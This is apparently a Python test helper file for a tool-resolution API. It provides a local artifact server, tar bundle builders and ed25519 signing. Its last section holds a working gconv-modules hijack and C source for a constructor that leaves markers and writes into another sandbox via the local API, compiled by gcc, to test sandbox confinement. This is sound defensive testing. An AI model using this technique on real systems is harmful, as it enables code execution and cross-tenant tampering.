"""Helpers for the /tools/resolve tests (CONTRACT.md section 6): a local artifact store
(http.server on 127.0.0.1, port 0, in a thread), bundle and manifest builders (tarfile),
ed25519 publisher keys through the openssl command line, and a small NDJSON exec reader.

Python stdlib only; every wait is bounded.
"""
import base64
import gzip
import hashlib
import http.client
import http.server
import io
import json
import os
import subprocess
import tarfile
import threading
import time


class Gate:
    """Holds the requests for a set of paths until `n` of them are in flight at once (then
    all go), or until `timeout` seconds passed for one that waits: `most` is how many were
    ever in flight together, so a client that fetches them one after another shows 1."""

    def __init__(self, paths, n, timeout):
        self.paths, self.n, self.timeout = set(paths), n, timeout
        self.cond = threading.Condition()
        self.inflight = self.most = 0
        self.opened = False

    def pass_through(self):
        with self.cond:
            self.inflight += 1
            self.most = max(self.most, self.inflight)
            if self.inflight >= self.n:
                self.opened = True
                self.cond.notify_all()
            self.cond.wait_for(lambda: self.opened, self.timeout)

    def leave(self):
        with self.cond:
            self.inflight -= 1


class ArtifactServer:
    """Serves `routes[path] = (status, body_bytes, delay_s, headers)`; counts hits per path;
    requests for the paths of a Gate (gate()) wait at it."""

    def __init__(self):
        self.routes = {}
        self.hits = {}
        self.gates = []
        self.lock = threading.Lock()
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                path = self.path.split("?", 1)[0]
                with outer.lock:
                    outer.hits[path] = outer.hits.get(path, 0) + 1
                    route = outer.routes.get(path)
                    gate = next((g for g in outer.gates if path in g.paths), None)
                if route is None:
                    route = (404, b"not found", 0, {})
                status, body, delay, headers = route
                if gate is not None:
                    gate.pass_through()
                if delay:
                    time.sleep(delay)
                try:
                    self.send_response(status)
                    self.send_header("Content-Length", str(len(body)))
                    for k, v in headers.items():
                        self.send_header(k, v)
                    self.end_headers()
                    self.wfile.write(body)
                except (BrokenPipeError, ConnectionResetError):
                    pass
                finally:
                    if gate is not None:
                        gate.leave()

            def log_message(self, *a):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05},
                                       daemon=True)
        self.thread.start()
        self.alive = True

    def url(self, path):
        return "http://127.0.0.1:%d%s" % (self.port, path)

    def gate(self, paths, n, timeout=5.0):
        """Requests for `paths` wait until `n` of them are in flight at once (Gate)."""
        g = Gate(paths, n, timeout)
        with self.lock:
            self.gates.append(g)
        return g

    def put(self, path, body, status=200, delay=0, headers=None):
        with self.lock:
            self.routes[path] = (status, body, delay, dict(headers or {}))
        return self.url(path)

    def stop(self):
        """The store dies: the listening socket is closed, connections are refused."""
        if self.alive:
            self.alive = False
            self.httpd.shutdown()
            self.httpd.server_close()


def sha256(b):
    return hashlib.sha256(b).hexdigest()


def add_member(tf, name, data=b"", mode=0o644, **kw):
    """One tar member: a regular file with `data`, or another type given as TarInfo fields."""
    ti = tarfile.TarInfo(name)
    ti.size = len(data)
    ti.mode = mode
    ti.mtime = 1700000000
    for k, v in kw.items():
        setattr(ti, k, v)
    if ti.type in (tarfile.REGTYPE, tarfile.AREGTYPE):
        tf.addfile(ti, io.BytesIO(data))
    else:
        ti.size = 0
        tf.addfile(ti)


def make_bundle(files=None, members=None):
    """A .tar.gz: `files` {name: bytes or (bytes, mode)}; `members` extra raw TarInfo dicts
    [{"name", "type", "linkname", "data", "mode", "devmajor", "devminor"}]."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.GNU_FORMAT) as tf:
        for name, v in (files or {}).items():
            data, mode = v if isinstance(v, tuple) else (v, 0o644)
            add_member(tf, name, data, mode)
        for m in members or []:
            m = dict(m)
            name = m.pop("name")
            data = m.pop("data", b"")
            mode = m.pop("mode", 0o644)
            add_member(tf, name, data, mode, **m)
    return buf.getvalue()


def make_header_only_bundle(name, claimed_size):
    """A tar.gz whose one header claims `claimed_size` bytes, with little data behind it: the
    size limit must be enforced from the header, before anything is written."""
    ti = tarfile.TarInfo(name)
    ti.size = claimed_size
    ti.mode = 0o644
    raw = ti.tobuf(format=tarfile.GNU_FORMAT) + b"\0" * 65536
    return gzip.compress(raw)


def make_manifest(bundle_url, sha, name="tool", version="1.0.0", commands=None):
    if commands is None:
        commands = [{"name": "hello", "argv": ["bin/hello"],
                     "parameters": {"type": "object", "properties": {"x": {"type": "integer"}},
                                    "required": []}, "unicode": "h\u00e9llo \u2603"}]
    return json.dumps({"name": name, "version": version,
                       "bundle": {"url": bundle_url, "sha256": sha},
                       "commands": commands}).encode()


HELLO_SCRIPT = b"#!/bin/sh\necho hello-tool \"$@\"\n"


def standard_bundle(tag="a"):
    """A small valid bundle: an executable script, a data file, a relative link inside."""
    return make_bundle(
        files={"./bin/hello": (HELLO_SCRIPT, 0o755), "share/data.txt": b"data-" + tag.encode()},
        members=[{"name": "bin/hello-link", "type": tarfile.SYMTYPE, "linkname": "hello"},
                 {"name": "share/up", "type": tarfile.SYMTYPE, "linkname": "../bin/hello"}])


def publish(srv, prefix, bundle, **mkw):
    """Put a bundle and its manifest on the store; returns (manifest_url, sha, manifest)."""
    sha = sha256(bundle)
    burl = srv.put(prefix + "/bundle.tar.gz", bundle)
    man = make_manifest(burl, sha, **mkw)
    murl = srv.put(prefix + "/manifest.json", man)
    return murl, sha, man


class Ed25519Key:
    """A publisher key made by `openssl genpkey -algorithm ed25519`."""

    def __init__(self, tmpdir, name="key"):
        self.pem = os.path.join(str(tmpdir), name + ".pem")
        subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519", "-out", self.pem],
                       check=True, capture_output=True, timeout=30)
        der = subprocess.run(["openssl", "pkey", "-in", self.pem, "-pubout", "-outform", "DER"],
                             check=True, capture_output=True, timeout=30).stdout
        self.public_raw = der[-32:]  # SubjectPublicKeyInfo ends with the 32 key bytes
        self.public_b64 = base64.b64encode(self.public_raw).decode()
        self.tmpdir = str(tmpdir)

    def sign(self, data):
        """Base64 of the detached ed25519 signature over exactly `data`."""
        path = os.path.join(self.tmpdir, "to-sign-%d" % os.getpid())
        with open(path, "wb") as f:
            f.write(data)
        sig = subprocess.run(["openssl", "pkeyutl", "-sign", "-inkey", self.pem, "-rawin", "-in",
                              path], check=True, capture_output=True, timeout=30).stdout
        os.unlink(path)
        assert len(sig) == 64
        return base64.b64encode(sig) + b"\n"


def resolve(client, tools, timeout=90):
    return client.post("/tools/resolve", body={"tools": tools}, timeout=timeout)


def resolve_ok(client, tools, timeout=90):
    r = resolve(client, tools, timeout=timeout)
    assert r.status == 200, r
    body = r.json()
    assert set(body) == {"tools", "refused"}, body
    # one entry per requested name, in exactly one of the two maps
    assert set(body["tools"]) | set(body["refused"]) == set(tools), body
    assert not (set(body["tools"]) & set(body["refused"])), body
    for name, t in body["tools"].items():
        assert set(t) == {"sha", "version", "stale", "commands"}, t
        assert isinstance(t["stale"], bool), t
        assert len(t["sha"]) == 64 and t["sha"] == t["sha"].lower(), t
    for name, reason in body["refused"].items():
        assert isinstance(reason, str) and reason, body
    return body


def exec_final(client, rid, cmd, timeout=30):
    """Run cmd in the sandbox; return the final NDJSON frame (exit or error) as a dict."""
    data = json.dumps({"cmd": cmd}).encode()
    conn = http.client.HTTPConnection(client.host, client.port, timeout=timeout)
    try:
        conn.request("POST", "/sandboxes/%s/exec" % rid, body=data,
                     headers={"Content-Type": "application/json",
                              "Content-Length": str(len(data))})
        resp = conn.getresponse()
        body = resp.read()
    finally:
        conn.close()
    assert resp.status == 200, (resp.status, body)
    final = None
    for line in body.splitlines():
        if not line.strip():
            continue
        frame = json.loads(line)
        if "exit" in frame or "error" in frame:
            final = frame
    assert final is not None, body
    if "exit" in final:
        final["out_bytes"] = base64.b64decode(final["out"])
        final["err_bytes"] = base64.b64decode(final["err"])
    return final


# ---- hostile bundles that try to run code (tests/contract/test_tools_confinement.py) -----------

GCONV_DIR = "usr/lib/x86_64-linux-gnu/gconv"

# glibc's iconv reads gconv-modules from this path when it first converts a charset; an alias
# for UTF-8 sends every UTF-8 conversion to a module of the config's directory (the classic
# gconv trick: glibc drops its own builtin UTF-8 module when an alias of that name exists).
GCONV_MODULES = b"""alias UTF-8// PWN//
alias ISO-10646/UTF8/ PWN//
alias ANSI_X3.4-1968// PWN//
module PWN// INTERNAL pwn 1
module INTERNAL PWN// pwn 1
"""

# The module's constructor: every thing it manages to do leaves a trace the test checks.
PWN_C = r"""
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void touch(const char *p)
{
        int fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

        if (fd >= 0) {
                (void)!write(fd, "ran", 3);
                close(fd);
        }
}

static void http(int port, const char *req)
{
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
        char buf[256];
        int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

        if (s < 0)
                return;
        a.sin_addr.s_addr = htonl(0x7f000001);
        if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0) {
                (void)!write(s, req, strlen(req));
                (void)!read(s, buf, sizeof(buf));
        }
        close(s);
}

__attribute__((constructor)) static void pwn(void)
{
        touch("/ctor-ran");
        touch("ctor-ran-cwd");
        touch(HOST_MARKER);
        http(STORE_PORT, "GET /ctor-ran HTTP/1.0\r\n\r\n");
        http(API_PORT, "PUT /sandboxes/" VICTIM "/file?path=pwned HTTP/1.0\r\n"
                       "Content-Type: application/octet-stream\r\nContent-Length: 5\r\n\r\npwned");
}

int gconv_init(void *step) { return 1; }
int gconv(void *a, void *b, void *c, void *d, void *e, int f) { return 1; }
"""


def build_pwn_module(tmpdir, host_marker, store_port, api_port, victim_rid):
    """Compile the hostile gconv module; returns its bytes."""
    src = os.path.join(str(tmpdir), "pwn.c")
    out = os.path.join(str(tmpdir), "pwn.so")
    with open(src, "w") as f:
        f.write(PWN_C)
    subprocess.run(["gcc", "-shared", "-fPIC", "-O1", "-o", out, src,
                    '-DHOST_MARKER="%s"' % host_marker, "-DSTORE_PORT=%d" % store_port,
                    "-DAPI_PORT=%d" % api_port, '-DVICTIM="%s"' % victim_rid],
                   check=True, capture_output=True, timeout=60)
    with open(out, "rb") as f:
        return f.read()


def make_pax_bundle(entries):
    """A .tar.gz in POSIX pax format (non-ASCII names travel as UTF-8 in pax headers, which
    libarchive converts with iconv). `entries`: list of (name, bytes, mode), in order."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as tf:
        for name, data, mode in entries:
            add_member(tf, name, data, mode)
    return buf.getvalue()
